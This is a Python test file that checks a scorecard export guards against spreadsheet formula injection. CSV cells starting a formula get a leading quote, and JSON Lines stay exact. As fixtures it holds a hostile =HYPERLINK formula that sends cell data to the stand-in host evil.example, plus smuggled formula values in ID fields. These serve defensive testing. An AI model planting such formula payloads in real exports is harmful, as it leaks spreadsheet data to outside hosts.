"""CSV exports are inert in spreadsheets: a text cell that would start a formula is quoted
(docs/export.md), while JSON Lines keep every value exactly as stored."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from judge.tools.cli import main
from judge.tools.tabular import csv_text
from tests.signal_cards import signal_card

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


@pytest.fixture
def hostile_card(tmp_path: Path) -> Path:
    card = signal_card()
    seats = {
        name: seat.model_copy(update={"agent_id": "-2+3"}) for name, seat in card.seats.items()
    }
    hostile = card.model_copy(
        update={"adversary_config": FORMULA, "scenario_id": "@SUM(A1)", "seats": seats}
    )
    path = tmp_path / "card.json"
    path.write_text(hostile.model_dump_json())
    return path


def export(card_file: Path, out: Path, fmt: str) -> None:
    assert main(["export", "scorecards", str(card_file), "--format", fmt, "--out", str(out)]) == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_leading_quote(start: str) -> None:
    assert csv_text(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["haggle", "", "1-2", "a=b", " =1"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert csv_text(text) == text


def test_the_csv_export_quotes_formula_cells_from_the_run(
    hostile_card: Path, tmp_path: Path
) -> None:
    out = tmp_path / "traits.csv"
    export(hostile_card, out, "csv")
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))

    assert rows and {r["adversary_config"] for r in rows} == {"'" + FORMULA}
    assert {r["scenario_id"] for r in rows} == {"'@SUM(A1)"}
    assert {r["agent_id"] for r in rows} == {"'-2+3"}


def test_numbers_in_the_csv_export_keep_their_sign(hostile_card: Path, tmp_path: Path) -> None:
    out = tmp_path / "traits.csv"
    export(hostile_card, out, "csv")
    with out.open(encoding="utf-8", newline="") as handle:
        composites = {r["composite"] for r in csv.DictReader(handle)}

    assert composites and all(not c.startswith("'") for c in composites)


def test_json_lines_keep_the_text_exactly(hostile_card: Path, tmp_path: Path) -> None:
    out = tmp_path / "traits.jsonl"
    export(hostile_card, out, "jsonl")
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]

    assert {r["adversary_config"] for r in rows} == {FORMULA}
